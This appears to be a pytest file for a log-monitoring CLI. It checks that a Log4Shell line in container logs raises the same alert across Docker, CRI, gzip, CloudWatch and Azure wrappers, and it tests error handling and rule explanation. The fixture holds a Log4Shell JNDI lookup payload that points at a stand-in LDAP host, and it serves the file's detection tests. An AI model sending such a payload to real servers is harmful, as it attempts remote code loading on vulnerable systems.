"""``hullwatch replay FILE --source container_log``: from lines in every wrapper to alerts and an exit code."""

from __future__ import annotations

import gzip
import json
from typing import TYPE_CHECKING, Any

import pytest

from tests.cli.in_process import Command, command
from tests.sources.container_logs.test_unwrapping import AZURE, INSIGHTS, SUBSCRIPTION, TIME, packed

if TYPE_CHECKING:
    from pathlib import Path

__all__ = ["command"]

SAID = '192.0.2.7 "GET /?q=${jndi:ldap://192.0.2.9/a} HTTP/1.1" 200 5'
ID = "d" * 64


def line(value: Any) -> bytes:
    return json.dumps(value).replace("hello", SAID.replace('"', '\\"')).encode() + b"\n"


WRAPPED = {
    "docker": (f"containers/{ID}/{ID}-json.log", line({"log": "hello\n", "stream": "stdout", "time": TIME})),
    "cri": ("shop_web-1_0f0e/web/0.log", f"{TIME} stdout F {SAID}\n".encode()),
    "compressed": ("shop_web-1_0f0e/web/0.log.gz", gzip.compress(f"{TIME} stdout F {SAID}\n".encode())),
    "cloudwatch": (
        "subscription.json",
        line({"awslogs": {"data": packed({**SUBSCRIPTION, "logEvents": [{"message": line(INSIGHTS).decode()}]})}}),
    ),
    "azure": ("export.json", line({"records": [AZURE]})),
}


@pytest.mark.parametrize("name", WRAPPED)
def test_the_same_line_raises_the_same_alert_in_every_wrapper(name: str, tmp_path: Path, command: Command) -> None:
    place, data = WRAPPED[name]
    path = tmp_path / place
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    code, lines, said = command("replay", str(path), "--source", "container_log", "-o", "json")
    (alert,) = [json.loads(one) for one in lines]
    assert (code, alert["rule"], alert["source"]) == (0, "Log4Shell lookup in a log", "container_log")
    fields = alert["output_fields"]
    assert fields["log.text"] == SAID
    assert fields["container.id"] == (
        "" if name in {"cri", "compressed"} else (ID if name == "docker" else "a" * 64)[:12]
    )
    assert fields["k8s.pod.name"] == (None if name == "docker" else "web-1")
    assert "1 event, 0 dropped" in said


def test_what_is_no_line_is_counted_and_a_file_without_any_is_wrong(tmp_path: Path, command: Command) -> None:
    path = tmp_path / "x.log"
    path.write_bytes(line({"log": "hello\n", "stream": "stdout", "time": TIME}) + b"klog says\n{bad\n")
    code, lines, said = command("replay", str(path), "--source", "container_log")
    assert (code, len(lines)) == (0, 1)
    assert "log: not JSON" in said
    path.write_bytes(b"klog says\n")
    code, _, said = command("replay", str(path), "--source", "container_log")
    assert code == 2
    assert "has no line of a container's log" in said


def test_a_rule_is_explained_for_a_line_of_a_file(tmp_path: Path, command: Command) -> None:
    path = tmp_path / "x.log"
    path.write_bytes(f"{TIME} stdout F quiet\n{TIME} stdout F {SAID}\n".encode())
    arguments = ("rules", "explain", "Log4Shell lookup in a log", "--source", "container_log", "--event", str(path))
    assert "matches this log" in command(*arguments, "--line", "2")[1][0]
    assert "does not match this log" in command(*arguments, "--line", "1")[1][0]
    assert "several lines" in command(*arguments)[2]
    assert "no line number 9" in command(*arguments, "--line", "9")[2]
